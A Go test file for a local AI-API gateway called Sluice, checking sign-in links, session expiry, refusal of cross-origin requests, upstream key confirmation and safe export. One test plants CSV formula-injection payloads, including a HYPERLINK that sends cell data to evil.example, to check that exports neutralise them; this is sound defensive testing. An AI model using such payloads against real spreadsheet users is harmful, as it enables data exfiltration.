package app

import (
	"context"
	"encoding/csv"
	"encoding/json"
	"errors"
	"io"
	"net/http"
	"net/http/cookiejar"
	"net/url"
	"strconv"
	"strings"
	"testing"
	"testing/fstest"
	"time"

	"github.com/sluicehq/sluice/gateway"
)

func startTest(t *testing.T) *Gateway {
	t.Helper()
	t.Setenv("DBUS_SESSION_BUS_ADDRESS", "") // never the developer's keyring
	ui := fstest.MapFS{
		"index.html":    {Data: []byte("<!doctype html><title>Sluice</title>")},
		"assets/app.js": {Data: []byte("console.log(1)")},
	}
	g, err := Start(context.Background(), Config{Addr: "127.0.0.1:0", DataDir: t.TempDir(), Log: io.Discard, UI: ui})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { g.Stop() })
	return g
}

func apiCall(t *testing.T, c *http.Client, url, method string, arg any, hdr map[string]string) (int, json.RawMessage) {
	t.Helper()
	b, _ := json.Marshal(arg)
	req, _ := http.NewRequest(http.MethodPost, url+"/api/"+method, strings.NewReader(string(b)))
	req.Header.Set("Content-Type", "application/json")
	for k, v := range hdr {
		req.Header.Set(k, v)
	}
	resp, err := c.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	var env struct {
		Result json.RawMessage `json:"result"`
	}
	body, _ := io.ReadAll(resp.Body)
	json.Unmarshal(body, &env)
	return resp.StatusCode, env.Result
}

// signIn opens a sign-in link with c and returns the per-tab secret the
// page would keep.
func signIn(t *testing.T, c *http.Client, link string) string {
	t.Helper()
	resp, err := c.Get(link)
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	tab, ok := strings.CutPrefix(resp.Request.URL.Fragment, strings.TrimPrefix(tabFragment, "#"))
	if resp.StatusCode != 200 || resp.Request.URL.Path != "/" || !ok || tab == "" {
		t.Fatalf("sign-in link ended at %s with %d, want / with 200 and the tab secret in the fragment", resp.Request.URL, resp.StatusCode)
	}
	return tab
}

// setNow moves the sessions' clock.
func setNow(g *Gateway, now func() time.Time) {
	g.sessions.mu.Lock()
	g.sessions.now = now
	g.sessions.mu.Unlock()
}

func TestBrowserSignIn(t *testing.T) {
	g := startTest(t)
	base := "http://" + g.Addr
	jar, _ := cookiejar.New(nil)
	c := &http.Client{Jar: jar}

	// The dashboard's files are public; the API is not.
	for _, p := range []string{"/", "/assets/app.js"} {
		resp, err := c.Get(base + p)
		if err != nil {
			t.Fatal(err)
		}
		resp.Body.Close()
		if resp.StatusCode != 200 || resp.Header.Get("Access-Control-Allow-Origin") != "" {
			t.Errorf("GET %s = %d, want 200 and no CORS", p, resp.StatusCode)
		}
	}
	if st, _ := apiCall(t, c, base, "status", nil, nil); st != 401 {
		t.Fatalf("API before sign-in = %d, want 401", st)
	}

	link := g.LoginLink()
	// A HEAD (a link checker, a preview) does not use the code up, nor
	// does a GET under another Host name.
	if resp, err := c.Head(link); err != nil || resp.StatusCode == 200 || resp.StatusCode == 303 {
		t.Errorf("HEAD of the sign-in link = %v, %v; want it refused", resp.StatusCode, err)
	}
	req, _ := http.NewRequest(http.MethodGet, link, nil)
	req.Host = "rebound.example:" + strings.Split(g.Addr, ":")[1]
	if resp, err := http.DefaultClient.Do(req); err != nil || resp.StatusCode != 403 {
		t.Errorf("sign-in under another Host = %v, %v; want 403", resp.StatusCode, err)
	}
	tab := signIn(t, c, link)
	var cookie *http.Cookie
	for _, ck := range jar.Cookies(mustURL(t, base)) {
		if ck.Name == sessionCookie(g.Addr) {
			cookie = ck
		}
	}
	if cookie == nil {
		t.Fatalf("no %s cookie after sign-in", sessionCookie(g.Addr))
	}
	withTab := map[string]string{tabHeader: tab}
	st, res := apiCall(t, c, base, "status", nil, withTab)
	var s Status
	json.Unmarshal(res, &s)
	if st != 200 || s.Addr != g.Addr {
		t.Fatalf("status after sign-in = %d %s", st, res)
	}
	// The cookie alone is not enough: the tab's secret must come too, and
	// be this session's.
	if st, _ := apiCall(t, c, base, "status", nil, nil); st != 401 {
		t.Errorf("API call with the cookie and no tab secret = %d, want 401", st)
	}
	if st, _ := apiCall(t, c, base, "status", nil, map[string]string{tabHeader: tab + "0"}); st != 401 {
		t.Errorf("API call with a wrong tab secret = %d, want 401", st)
	}
	if st, _ := apiCall(t, http.DefaultClient, base, "status", nil, withTab); st != 401 {
		t.Errorf("API call with the tab secret and no cookie = %d, want 401", st)
	}
	// Same-origin fetches carry Origin; other sites are refused.
	if st, _ := apiCall(t, c, base, "status", nil, map[string]string{tabHeader: tab, "Origin": base}); st != 200 {
		t.Errorf("same-origin API call = %d, want 200", st)
	}
	if st, _ := apiCall(t, c, base, "status", nil, map[string]string{tabHeader: tab, "Origin": "http://evil.example"}); st != 401 {
		t.Errorf("cross-origin API call = %d, want 401", st)
	}
	if st, _ := apiCall(t, c, base, "status", nil, map[string]string{tabHeader: tab, "Sec-Fetch-Site": "cross-site"}); st != 401 {
		t.Errorf("cross-site API call = %d, want 401", st)
	}
	// The link works once.
	resp, err := (&http.Client{}).Get(link)
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if resp.StatusCode != 401 {
		t.Errorf("second use of the sign-in link = %d, want 401", resp.StatusCode)
	}

	// Signing out ends the session.
	req, _ = http.NewRequest(http.MethodPost, base+"/logout", nil)
	req.Header.Set(tabHeader, tab)
	resp, err = c.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if resp.StatusCode != 200 {
		t.Fatalf("sign out = %d, want 200", resp.StatusCode)
	}
	req, _ = http.NewRequest(http.MethodPost, base+"/api/status", strings.NewReader("null"))
	req.Header.Set(tabHeader, tab)
	req.Header.Set("Content-Type", "application/json")
	req.AddCookie(cookie)
	if resp, err := http.DefaultClient.Do(req); err != nil || resp.StatusCode != 401 {
		t.Errorf("API call with a signed-out session's cookie and secret = %v, %v; want 401", resp.StatusCode, err)
	}
}

func TestSignInCodes(t *testing.T) {
	g := startTest(t)
	// Only the newest code works.
	old, link := g.LoginLink(), g.LoginLink()
	if resp, err := http.Get(old); err != nil || resp.StatusCode != 401 {
		t.Errorf("an older sign-in link = %v, %v; want 401", resp.StatusCode, err)
	}
	jar, _ := cookiejar.New(nil)
	signIn(t, &http.Client{Jar: jar}, link)

	// A code lives minutes, not a day.
	link = g.LoginLink()
	start := time.Now()
	setNow(g, func() time.Time { return start.Add(loginLife + time.Second) })
	if resp, err := http.Get(link); err != nil || resp.StatusCode != 401 {
		t.Errorf("a sign-in link %s old = %v, %v; want 401", loginLife+time.Second, resp.StatusCode, err)
	}
}

func TestSessionIdle(t *testing.T) {
	g := startTest(t)
	base := "http://" + g.Addr
	start := time.Now()
	setNow(g, func() time.Time { return start })
	jar, _ := cookiejar.New(nil)
	c := &http.Client{Jar: jar}
	tab := signIn(t, c, g.LoginLink())
	withTab := map[string]string{tabHeader: tab}
	// Use keeps a session alive; a day without use ends it.
	for _, after := range []time.Duration{20 * time.Hour, 40 * time.Hour} {
		setNow(g, func() time.Time { return start.Add(after) })
		if st, _ := apiCall(t, c, base, "status", nil, withTab); st != 200 {
			t.Fatalf("API call %s after sign-in, used since = %d, want 200", after, st)
		}
	}
	setNow(g, func() time.Time { return start.Add(40*time.Hour + defaultSessionIdle + time.Minute) })
	if st, _ := apiCall(t, c, base, "status", nil, withTab); st != 401 {
		t.Errorf("API call a day after the last use = %d, want 401", st)
	}

	// The session_hours setting shortens it. Out of its range it is
	// refused, and the saved setting stays.
	set, _ := g.Service.Settings(context.Background())
	for _, h := range []int{-1, maxSessionHours + 1} {
		bad := set
		bad.SessionHours = h
		_, err := g.Service.PutSettings(context.Background(), bad)
		var ae *apiError
		if !errors.As(err, &ae) || ae.Status != http.StatusBadRequest || !strings.Contains(ae.Message, "session of") {
			t.Errorf("PutSettings(session_hours %d) = %v, want a 400 naming the session", h, err)
		}
		if got, _ := g.Service.Settings(context.Background()); got.SessionHours != set.SessionHours {
			t.Errorf("session_hours %d refused, yet saved: %d", h, got.SessionHours)
		}
	}
	set.SessionHours = 1
	if _, err := g.Service.PutSettings(context.Background(), set); err != nil {
		t.Fatal(err)
	}
	setNow(g, func() time.Time { return start })
	tab = signIn(t, c, g.LoginLink())
	setNow(g, func() time.Time { return start.Add(61 * time.Minute) })
	if st, _ := apiCall(t, c, base, "status", nil, map[string]string{tabHeader: tab}); st != 401 {
		t.Errorf("API call 61 minutes idle with session_hours 1 = %d, want 401", st)
	}
}

func mustURL(t *testing.T, s string) *url.URL {
	t.Helper()
	u, err := url.Parse(s)
	if err != nil {
		t.Fatal(err)
	}
	return u
}

func TestDashboardAPI(t *testing.T) {
	g := startTest(t)
	db := g.Service.DB
	now := time.Now()
	// Two requests in the last minutes, both today: in a day's first
	// minutes, between its midnight and now.
	first, second := now.Add(-2*time.Minute), now.Add(-time.Minute)
	local := now.In(g.Service.location())
	if midnight := time.Date(local.Year(), local.Month(), local.Day(), 0, 0, 0, 0, local.Location()); first.Before(midnight) {
		first, second = midnight, midnight.Add(now.Sub(midnight)/2)
	}
	recs := []gateway.Record{
		{ID: gateway.NewID(first), Time: first, Token: "ci", Provider: "openai", Model: "gpt-4o-mini",
			Route: "openai.chat", Status: 200, Outcome: gateway.OutcomeOK, Priced: true,
			Usage: gateway.Usage{InputTokens: 1000, OutputTokens: 100}, Cost: 210 * gateway.Microdollar},
		{ID: gateway.NewID(second), Time: second, Token: "ci", Provider: "anthropic", Model: "claude-sonnet-4-5",
			Route: "anthropic.messages", Status: 402, Outcome: gateway.OutcomeRefused, Budget: "daily", Held: gateway.Dollar, Remaining: new(gateway.Money),
			Error: "Sluice budget \"daily\" would be exceeded"},
	}
	for _, r := range recs {
		if err := db.Settle(context.Background(), r); err != nil {
			t.Fatal(err)
		}
	}
	ctx := context.Background()
	sum, err := g.Service.Summary(ctx)
	if err != nil {
		t.Fatal(err)
	}
	if sum.Today.Requests != 2 || sum.Today.Cost != 210*gateway.Microdollar || len(sum.RPM) != 60 || sum.RPM[57]+sum.RPM[58]+sum.RPM[59] != 2 {
		t.Errorf("Summary = %+v, want 2 requests costing $0.00021 in the last minutes", sum)
	}
	d, err := g.Service.RecordDetail(ctx, recs[0].ID)
	if err != nil {
		t.Fatal(err)
	}
	var total gateway.Money
	for _, l := range d.Lines {
		total += l.Amount
	}
	if d.Price == nil || total != d.Price.Cost(recs[0].Usage) {
		t.Errorf("RecordDetail lines add to %v with price %v, want the cost of the usage", total, d.Price)
	}
	d, err = g.Service.RecordDetail(ctx, recs[1].ID)
	if err != nil || !strings.Contains(d.Explanation, "daily") {
		t.Errorf("RecordDetail(refusal) explanation = %q, %v; want the budget named", d.Explanation, err)
	}

	// Export, through the control socket as the command line would.
	ctl := &http.Client{Transport: socketTransport(controlPath(g.dataDir))}
	for format, want := range map[string]string{"csv": "id,time,token,provider", "jsonl": `"provider":"openai"`} {
		req, _ := http.NewRequest(http.MethodGet, "http://sluice/api/export?format="+format, nil)
		resp, err := ctl.Do(req)
		if err != nil {
			t.Fatal(err)
		}
		b, _ := io.ReadAll(resp.Body)
		resp.Body.Close()
		lines := strings.Split(strings.TrimSpace(string(b)), "\n")
		wantLines := 2
		if format == "csv" {
			wantLines = 3
		}
		if resp.StatusCode != 200 || !strings.Contains(string(b), want) || len(lines) != wantLines {
			t.Errorf("export %s = %d:\n%s\nwant %d lines with %q", format, resp.StatusCode, b, wantLines, want)
		}
	}

	// The dashboard's rows say whether each request was forwarded: a
	// refusal costs nothing, priced or not (gateway.Outcome.Forwarded).
	st, res := apiCall(t, ctl, "http://sluice", "records", map[string]any{}, nil)
	var rows []struct {
		ID        string `json:"id"`
		Outcome   string `json:"outcome"`
		Forwarded *bool  `json:"forwarded"`
	}
	if err := json.Unmarshal(res, &rows); st != 200 || err != nil || len(rows) != 2 {
		t.Fatalf("records = %d %s (%v), want the two rows", st, res, err)
	}
	for _, row := range rows {
		if want := row.Outcome != "refused"; row.Forwarded == nil || *row.Forwarded != want {
			t.Errorf("row %+v: forwarded %v, want %v", row, row.Forwarded, want)
		}
	}
	st, res = apiCall(t, ctl, "http://sluice", "record", map[string]string{"id": recs[1].ID}, nil)
	var det struct {
		Record struct {
			Forwarded *bool `json:"forwarded"`
			Budget    string
		} `json:"record"`
	}
	if err := json.Unmarshal(res, &det); st != 200 || err != nil || det.Record.Forwarded == nil || *det.Record.Forwarded || det.Record.Budget != "daily" {
		t.Errorf("record %s = %d %s (%v), want the refusal, not forwarded", recs[1].ID, st, res, err)
	}

	// Notices come from budget events and billing records, and move the
	// change counter the dashboard polls.
	before := g.Service.Hub.Seq()
	if _, err := db.PutBudget(gateway.Budget{Name: "tiny", Limit: 100 * gateway.Microdollar, Period: gateway.PeriodDay}); err != nil {
		t.Fatal(err)
	}
	r := gateway.Record{ID: gateway.NewID(time.Now()), Time: time.Now(), Provider: "openai", Model: "gpt-4o-mini", Status: 429,
		Outcome: gateway.OutcomeBilling, Priced: true, Error: "insufficient_quota"}
	if err := db.Settle(ctx, r); err != nil {
		t.Fatal(err)
	}
	deadline := time.Now().Add(2 * time.Second)
	for {
		ns, _ := g.Service.Notices(ctx, 0)
		if len(ns) > 0 && ns[len(ns)-1].Kind == "billing" && g.Service.Hub.Seq() > before {
			break
		}
		if time.Now().After(deadline) {
			t.Fatalf("notices = %+v, want a billing notice", ns)
		}
		time.Sleep(10 * time.Millisecond)
	}
}

func TestStatusUpstreams(t *testing.T) {
	t.Setenv("DBUS_SESSION_BUS_ADDRESS", "")
	dir := t.TempDir()
	g, err := Start(context.Background(), Config{Addr: "127.0.0.1:0", DataDir: dir, Log: io.Discard,
		Upstreams: map[string]string{"openai": "http://127.0.0.1:9/v1"}})
	if err != nil {
		t.Fatal(err)
	}
	defer g.Stop()
	ctx := context.Background()
	set, _ := g.Service.Settings(ctx)
	set.Upstreams = map[string]string{"anthropic": "https://proxy.example/anthropic"}
	// The dashboard cannot send a key elsewhere, nor confirm a host.
	if _, err := g.Service.PutSettings(ctx, set); err == nil || !strings.Contains(err.Error(), "--allow-key-to proxy.example") {
		t.Fatalf("PutSettings(upstream.anthropic elsewhere) from the dashboard = %v, want refused", err)
	}
	set.AllowKeyTo = []string{"proxy.example"}
	if _, err := g.Service.PutSettings(ctx, set); err == nil {
		t.Fatalf("PutSettings(allow_key_to) from the dashboard succeeded, want refused")
	}
	// The command line must confirm it.
	set.AllowKeyTo = nil
	if _, err := g.Service.PutSettings(CommandLine(ctx), set); err == nil || !strings.Contains(err.Error(), "--allow-key-to proxy.example") {
		t.Fatalf("PutSettings(upstream.anthropic elsewhere) from the command line without confirmation = %v, want refused", err)
	}
	set.AllowKeyTo = []string{"proxy.example"}
	if _, err := g.Service.PutSettings(CommandLine(ctx), set); err != nil {
		t.Fatal(err)
	}
	// Once confirmed, the dashboard may save other settings, and even
	// point another provider at the confirmed host.
	set.RetentionDays = 3
	set.Upstreams["mistral"] = "https://proxy.example/mistral/v1"
	set.Upstreams["ollama"] = "http://10.1.2.3:11434/v1"
	if _, err := g.Service.PutSettings(ctx, set); err != nil {
		t.Fatalf("PutSettings from the dashboard after confirmation: %v", err)
	}
	// A custom provider may be added from the dashboard; no key goes to it
	// until its host is confirmed.
	set.Upstreams["vllm"] = "http://127.0.0.1:8000/v1"
	if _, err := g.Service.PutSettings(ctx, set); err != nil {
		t.Fatalf("PutSettings(upstream.vllm) from the dashboard: %v", err)
	}
	st, err := g.Service.Status(ctx)
	if err != nil {
		t.Fatal(err)
	}
	for name, want := range map[string]Upstream{
		"openai":    {BaseURL: "http://127.0.0.1:9/v1", From: "command line"},
		"anthropic": {BaseURL: "https://proxy.example/anthropic", From: "settings"},
		"mistral":   {BaseURL: "https://proxy.example/mistral/v1", From: "settings"},
		"gemini":    {BaseURL: "https://generativelanguage.googleapis.com", From: "default", Official: true},
		"ollama":    {BaseURL: "http://10.1.2.3:11434/v1", From: "settings", Keyless: true},
		"vllm":      {BaseURL: "http://127.0.0.1:8000/v1", From: "settings", Withheld: true},
	} {
		if got := st.Upstreams[name]; got != want {
			t.Errorf("Status().Upstreams[%s] = %+v, want %+v", name, got, want)
		}
	}
}

// TestExportIsSafe: a CSV cell that a spreadsheet would run as a formula
// is neutralised, and no export shows a key.
func TestExportIsSafe(t *testing.T) {
	g := startTest(t)
	const key = "sk-proj-exportLeak0123456789abcdefghijklmnopqrstuv"
	now := time.Now()
	evil := []string{`=HYPERLINK("http://evil.example/?x="&A1,"click")`, "+1+2", "-2+3", "@SUM(A1:A9)", "\tcmd", "\rcmd"}
	for i, m := range evil {
		r := gateway.Record{ID: gateway.NewID(now.Add(time.Duration(i) * time.Millisecond)), Time: now, Token: m, Provider: "openai", Model: m,
			Route: "openai.chat", Status: 401, Outcome: gateway.OutcomeError, Error: "upstream said: Incorrect API key provided: " + key}
		if err := g.Service.DB.Settle(context.Background(), r); err != nil {
			t.Fatal(err)
		}
	}
	ctl := &http.Client{Transport: socketTransport(controlPath(g.dataDir))}
	for _, format := range []string{"csv", "jsonl"} {
		resp, err := ctl.Get("http://sluice/api/export?format=" + format)
		if err != nil {
			t.Fatal(err)
		}
		b, _ := io.ReadAll(resp.Body)
		resp.Body.Close()
		if strings.Contains(string(b), key[8:20]) {
			t.Errorf("%s export shows the key:\n%s", format, b)
		}
		if format != "csv" {
			continue
		}
		rows, err := csv.NewReader(strings.NewReader(string(b))).ReadAll()
		if err != nil || len(rows) != len(evil)+1 {
			t.Fatalf("csv export = %d rows, %v; want %d", len(rows), err, len(evil)+1)
		}
		for _, row := range rows[1:] {
			for _, cell := range row {
				if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
					t.Errorf("csv cell %q starts with a formula character", cell)
				}
			}
			if m := row[4]; !strings.HasPrefix(m, "'") {
				t.Errorf("csv model cell %q, want it neutralised with a leading '", m)
			}
		}
	}
}

// TestAPITakesJSONOnly: an API call with a body other than JSON is refused
// before anything is done.
func TestAPITakesJSONOnly(t *testing.T) {
	g := startTest(t)
	ctl := &http.Client{Transport: socketTransport(controlPath(g.dataDir))}
	for ct, want := range map[string]int{
		"application/json":                  200,
		"application/json; charset=utf-8":   200,
		"text/plain":                        415,
		"application/x-www-form-urlencoded": 415,
		"multipart/form-data; boundary=x":   415,
		"":                                  415,
	} {
		req, _ := http.NewRequest(http.MethodPost, "http://sluice/api/token.new", strings.NewReader(`{"name":"t`+strconv.Itoa(len(ct))+`"}`))
		if ct != "" {
			req.Header.Set("Content-Type", ct)
		}
		resp, err := ctl.Do(req)
		if err != nil {
			t.Fatal(err)
		}
		resp.Body.Close()
		if resp.StatusCode != want {
			t.Errorf("token.new as %q = %d, want %d", ct, resp.StatusCode, want)
		}
	}
	ts, _ := g.Service.Tokens(context.Background())
	if len(ts) != 2 {
		t.Errorf("%d tokens made, want 2 (the JSON calls only)", len(ts))
	}
}
